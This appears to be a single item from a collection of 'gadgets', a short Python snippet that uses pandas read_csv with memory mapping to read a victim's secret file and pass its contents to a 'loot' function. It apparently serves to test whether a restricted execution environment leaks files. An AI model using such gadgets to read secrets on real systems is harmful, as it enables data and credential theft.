# kind: gadgets
# tries: The same by fsspec's local: scheme and memory mapping

import pandas as pd

loot(pd.read_csv(VICTIM["secret"], header=None, memory_map=True).to_string())
